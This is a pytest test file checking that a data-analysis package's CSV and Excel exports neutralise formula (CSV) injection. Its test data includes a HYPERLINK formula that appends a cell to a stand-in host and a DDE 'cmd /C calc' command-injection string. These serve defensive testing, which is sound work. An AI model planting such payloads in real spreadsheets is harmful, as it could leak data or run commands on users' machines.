"""Exports safe to open: no CSV or Excel file the package writes holds a live formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from ekc_analysis.cli._main import main
from ekc_analysis.intake._spreadsheets import csv_text, inert, is_formula_like, safe_frame, write_csv, write_xlsx
from ekc_analysis.reporting._csv_tables import csv_bytes
from ekc_analysis.simulate._synthetic import write_sample

PACKAGE = Path(__file__).resolve().parents[2] / "ekc_analysis"
LINK = '=HYPERLINK("http://x"&A1,"klik")'
ATTACKS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1"]


def test_formula_like_text_is_inert_and_numbers_stay_numbers() -> None:
    frame = pd.DataFrame({"text": [*ATTACKS, "-12", "-1.019,5", "+3 %", "a=b", "—", None],
                          "x": np.linspace(-3, 3, len(ATTACKS) + 6), "n": pd.array([-1] * (len(ATTACKS) + 6),
                                                                                   dtype="Int64")})
    out = safe_frame(frame)
    assert out["text"].tolist()[:len(ATTACKS)] == ["'" + a for a in ATTACKS]
    assert out["text"].tolist()[len(ATTACKS):-1] == ["-12", "-1.019,5", "+3 %", "a=b", "—"]  # no formula
    assert pd.isna(out["text"].iloc[-1])
    pd.testing.assert_series_equal(out["x"], frame["x"])  # negative numbers stay numeric, untouched
    pd.testing.assert_series_equal(out["n"], frame["n"])
    assert frame["text"].iloc[0] == LINK  # the input is not changed
    # categories and column names are cells too
    cat = safe_frame(pd.DataFrame({"=1+1": pd.Categorical(["=A1", "ok", "=A1"])}))
    assert cat.columns.tolist() == ["'=1+1"] and cat.iloc[:, 0].tolist() == ["'=A1", "ok", "'=A1"]
    assert [is_formula_like(t) for t in ("-", "-0.5", "=")] == [True, False, True]
    assert inert(-5) == -5 and inert("x") == "x"


def test_csv_and_xlsx_writers_store_text_never_a_formula(tmp_path: Path) -> None:
    frame = pd.DataFrame({"value": ATTACKS, "x": -np.arange(len(ATTACKS), dtype=float),
                          "day": pd.date_range("2024-01-01", periods=len(ATTACKS))})
    text = write_csv(frame, tmp_path / "t.csv").read_bytes().decode("utf-8")  # a \r in a cell stays a \r
    cells = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [r[0] for r in cells] == ["'" + a for a in ATTACKS]
    assert [r[1] for r in cells] == [str(-float(i)) for i in range(len(ATTACKS))]  # numbers as numbers
    write_xlsx({"een": frame, "twee": frame.head(2)}, tmp_path / "t.xlsx")
    book = openpyxl.load_workbook(tmp_path / "t.xlsx")
    assert book.sheetnames == ["een", "twee"]
    sheet = book["een"]
    col = [sheet.cell(row=r, column=1) for r in range(2, len(ATTACKS) + 2)]
    assert [c.value for c in col] == ATTACKS and {c.data_type for c in col} == {"s"}
    assert all(c.quotePrefix for c in col)  # Excel keeps them text even when a cell is edited
    assert sheet.cell(row=3, column=2).value == -1 and sheet.cell(row=3, column=2).data_type == "n"
    assert sheet.cell(row=2, column=3).is_date


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
@pytest.mark.parametrize("lang", ["nl", "en"])
def test_validate_problems_file_holds_the_cell_text_not_a_formula(tmp_path: Path, suffix: str, lang: str,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "cases.csv"
    pd.DataFrame({"case_id": ["K1", "K2"], "referral_date": ["2019-01-03", "2019-01-05"],
                  "status": [LINK, "stopped"]}).to_csv(source, index=False)
    out = tmp_path / f"problems{suffix}"
    assert main(["validate", str(source), "--problems", str(out), "--lang", lang, "--as-of", "2024-12-31"]) == 2
    capsys.readouterr()
    if suffix == ".xlsx":
        sheet = openpyxl.load_workbook(out).active
        cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
        assert cells and all(c.data_type != "f" and c.data_type == "s" for c in cells)
        assert cells[0].value == LINK  # the cell's own text, as a string
        assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    else:
        text = out.read_text(encoding="utf-8-sig")
        fields = [f for r in csv.reader(io.StringIO(text), delimiter=";" if lang == "nl" else ",") for f in r]
        hits = [f for f in fields if "HYPERLINK" in f]
        assert hits and all(f.startswith("'=") for f in hits), hits


def test_report_tables_csv_is_inert() -> None:
    table = pd.DataFrame({"municipality": [LINK, "Arnhem"], "n": [45, 12], "share": [-0.25, 0.5]})
    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8"))))
    assert rows == [["municipality", "n", "share"], ["'" + LINK, "45", "-0.25"], ["Arnhem", "12", "0.5"]]
    dutch = list(csv.reader(io.StringIO(csv_text(table, sep=";")), delimiter=";"))
    assert dutch[1] == ["'" + LINK, "45", "-0.25"]


def test_simulated_sample_has_no_formula_like_cell(tmp_path: Path) -> None:
    for path in write_sample(tmp_path, n=200, seed=3):
        if path.suffix == ".csv":
            frame = pd.read_csv(path, dtype=str, keep_default_na=False)
            for col in frame:
                assert not frame[col].map(is_formula_like).any(), (path.name, col)


WRITERS = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter|openpyxl\.Workbook\(|\.save\(|csv\.writer")


def test_every_csv_and_xlsx_the_package_writes_goes_through_spreadsheets() -> None:
    """Walk the package: no module but spreadsheets.py writes CSV or Excel itself."""
    offenders = []
    for path in sorted(PACKAGE.rglob("*.py")):
        # exports.py lays out a formatted workbook and a Word table itself; its text cells go through
        # spreadsheets.is_formula_like and are stored as string cells (tests/test_exports.py)
        if path.stem.lstrip("_") in ("spreadsheets", "exports"):
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            code = line.split("#")[0]
            if "not a file" in line:  # a CSV-quoted line shown in a message (mapping line to copy)
                continue
            if WRITERS.search(code) and "savefig" not in code:
                offenders.append(f"{path.relative_to(PACKAGE)}:{number}: {line.strip()}")
    assert not offenders, "\n".join(offenders)


def test_a_sheet_longer_than_excel_holds_is_refused_with_the_way_out(tmp_path: Path) -> None:
    from ekc_analysis.errors import ArgumentError
    from ekc_analysis.intake._spreadsheets import EXCEL_ROWS

    rows = pd.DataFrame({"n": np.zeros(EXCEL_ROWS, dtype=np.int8)})  # with its header one row too many
    with pytest.raises(ArgumentError, match=r"more rows than Excel holds \(1,048,576 .*write it as \.csv"):
        write_xlsx({"afspraken": rows}, tmp_path / "big.xlsx")
    assert not (tmp_path / "big.xlsx").exists()
